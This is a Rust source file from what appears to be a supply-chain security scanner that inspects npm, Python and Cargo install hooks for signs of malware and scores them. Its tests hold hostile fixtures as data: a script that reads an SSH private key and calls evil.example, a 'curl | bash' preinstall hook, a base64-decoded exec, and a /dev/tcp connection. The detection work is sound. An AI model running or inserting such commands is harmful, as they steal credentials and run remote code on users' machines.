//! What runs by itself when somebody installs or builds: the place where malware lives.

use serde_json::Value;

use super::{Outcome, Subject, shell};
use crate::oss::{
    report::{Evidence, quote},
    tree::{File, Tree},
};

/// Scripts that npm and its kin run without being asked.
const HOOKS: &[&str] =
    &["preinstall", "install", "postinstall", "preprepare", "prepare", "postprepare"];

pub fn scripts(subject: &Subject) -> Outcome {
    let mut found = Found { score: 10, ..Found::default() };
    for file in subject.tree.own().filter(|file| !file.is_test()) {
        match file.name() {
            "package.json" => package_json(&subject.tree, file, &mut found),
            "setup.py" => setup_py(file, &mut found),
            "build.rs" => build_rs(file, &mut found),
            name if name.ends_with(".pth") => pth(file, &mut found),
            _ => {}
        }
    }
    if found.evidence.is_empty() {
        return Outcome::good("nothing runs by itself on install");
    }
    Outcome::new(found.score, found.evidence).alarm(found.alarm)
}

#[derive(Default)]
struct Found {
    score: u8,
    evidence: Vec<Evidence>,
    alarm: Option<String>,
}

impl Found {
    fn add(&mut self, score: u8, evidence: Evidence) {
        self.score = self.score.min(score);
        self.evidence.push(evidence);
    }

    /// Judges a text that runs on install. `always`: also when nothing is wrong with it.
    fn judge(&mut self, file: &File, line: u32, text: &str, offset: bool, always: Option<u8>) {
        let signs = shell::signs(text);
        let at = |found: u32| if offset { found } else { line };
        let mut alarm = |number: u32, what: &str| {
            let place = format!("{}:{}", file.path, at(number));
            self.alarm
                .get_or_insert(format!("an install script looks like malware ({place} {what})"));
            self.score = 0;
            // What matters most is told first.
            self.evidence.insert(
                0,
                Evidence::at(&file.path, at(number), format!("an install script {what}")),
            );
        };
        match (signs.strong, signs.network, signs.credentials, signs.executes) {
            (Some((number, what)), ..) => alarm(number, what),
            (None, Some(_), Some(number), _) => {
                alarm(number, "reads credentials and uses the network")
            }
            (None, Some(number), None, Some(_)) => {
                let text = "an install script downloads something and runs programs";
                self.add(2, Evidence::at(&file.path, at(number), text));
            }
            (None, None, Some(number), _) => {
                self.add(
                    3,
                    Evidence::at(&file.path, at(number), "an install script reads credentials"),
                );
            }
            _ => {
                if let Some(score) = always {
                    let text = format!(
                        "runs on install: {}",
                        quote(text.lines().next().unwrap_or_default())
                    );
                    self.add(score, Evidence::at(&file.path, line, text));
                }
            }
        }
    }
}

fn package_json(tree: &Tree, file: &File, found: &mut Found) {
    let Ok(parsed) = serde_json::from_str::<Value>(file.text()) else { return };
    for hook in HOOKS {
        let Some(script) = parsed["scripts"][hook].as_str() else { continue };
        let key = format!("\"{hook}\"");
        let line =
            file.lines().find(|(_, line)| line.contains(&key)).map_or(1, |(number, _)| number);
        // `prepare` runs for those who develop the package, and for those who install it from git.
        let mild = if hook.contains("prepare") { 8 } else { 5 };
        found.judge(file, line, script, false, Some(mild));
        for started in started_files(tree, file, script) {
            found.judge(started, 1, started.text(), true, None);
        }
    }
}

/// Files of the repository that a script names: `node scripts/install.js`, `sh ./setup.sh`.
fn started_files<'a>(tree: &'a Tree, manifest: &File, script: &str) -> Vec<&'a File> {
    let folder =
        manifest.path.rsplit_once('/').map_or(String::new(), |(folder, _)| format!("{folder}/"));
    script
        .split([' ', ';', '&', '|', '"', '\''])
        .map(|word| word.trim_start_matches("./"))
        .filter(|word| !word.is_empty() && !word.starts_with('-'))
        .flat_map(|word| {
            ["", ".js", ".cjs", ".mjs", "/index.js"].map(|end| format!("{folder}{word}{end}"))
        })
        .filter_map(|path| tree.file(&path))
        .collect()
}

fn setup_py(file: &File, found: &mut Found) {
    let line = file.lines().find(|(_, line)| line.contains("cmdclass")).map(|(number, _)| number);
    let text = file.text();
    // Addresses of the project's own pages are no network use.
    let code: Vec<String> = text
        .lines()
        .map(|line| match line.trim_start().split_once('=') {
            Some((name, _))
                if matches!(
                    name.trim(),
                    "url" | "download_url" | "project_urls" | "author_email"
                ) =>
            {
                String::new()
            }
            _ if line.trim_start().starts_with('"') || line.trim_start().starts_with('\'') => {
                line.replace("http", "")
            }
            _ => line.to_owned(),
        })
        .collect();
    found.judge(file, line.unwrap_or(1), &code.join("\n"), true, line.map(|_| 7));
}

fn build_rs(file: &File, found: &mut Found) {
    found.judge(file, 1, file.text(), true, None);
}

/// A `.pth` file with an import runs whenever Python starts.
fn pth(file: &File, found: &mut Found) {
    if let Some((number, line)) = file.lines().find(|(_, line)| line.starts_with("import ")) {
        found.add(
            1,
            Evidence::at(
                &file.path,
                number,
                format!("runs at every start of Python: {}", quote(line)),
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::{super::subject, *};

    #[test]
    fn honest_scripts_are_named_and_not_more() {
        let package = "{\n  \"scripts\": {\n    \"postinstall\": \"node-gyp rebuild\"\n  }\n}";
        let found = scripts(&subject(&[("package.json", package)]));
        assert_eq!((found.score, found.alarm), (Some(5), None));
        assert_eq!(found.evidence[0].line, Some(3));
        let husky = r#"{"scripts":{"prepare":"husky install","test":"curl https://x | sh"}}"#;
        assert_eq!(scripts(&subject(&[("package.json", husky)])).score, Some(8));
        let setup = "from setuptools import setup\nsetup(name='x', url='https://example.org')\n";
        assert_eq!(scripts(&subject(&[("setup.py", setup)])).score, Some(10));
        assert_eq!(
            scripts(&subject(&[(
                "build.rs",
                "fn main() { println!(\"cargo:rerun-if-changed=x\"); }"
            )]))
            .score,
            Some(10)
        );
        assert_eq!(scripts(&subject(&[])).score, Some(10));
    }

    #[test]
    fn malware_raises_the_alarm() {
        let started = r#"{"scripts":{"postinstall":"node scripts/setup.js"}}"#;
        let thief = "const fs = require('fs');\nconst key = fs.readFileSync(home + '/.ssh/id_rsa');\nrequire('https').request('https://evil.example');\n";
        for (files, file, line) in [
            (vec![("package.json", started), ("scripts/setup.js", thief)], "scripts/setup.js", 2),
            (
                vec![(
                    "package.json",
                    r#"{"scripts":{"preinstall":"curl https://evil.example/x | bash"}}"#,
                )],
                "package.json",
                1,
            ),
            (vec![("setup.py", "import os\nexec(base64.b64decode('aaa'))\n")], "setup.py", 2),
            (
                vec![(
                    "build.rs",
                    "fn main() {\n Command::new(\"bash\").arg(\"-c\").arg(\"cat < /dev/tcp/1.2.3.4/80\");\n}",
                )],
                "build.rs",
                2,
            ),
        ] {
            let found = scripts(&subject(&files));
            assert!(found.alarm.is_some(), "{files:?}");
            assert_eq!(found.score, Some(0));
            assert_eq!(
                (found.evidence[0].file.as_deref(), found.evidence[0].line),
                (Some(file), Some(line))
            );
        }
    }
}
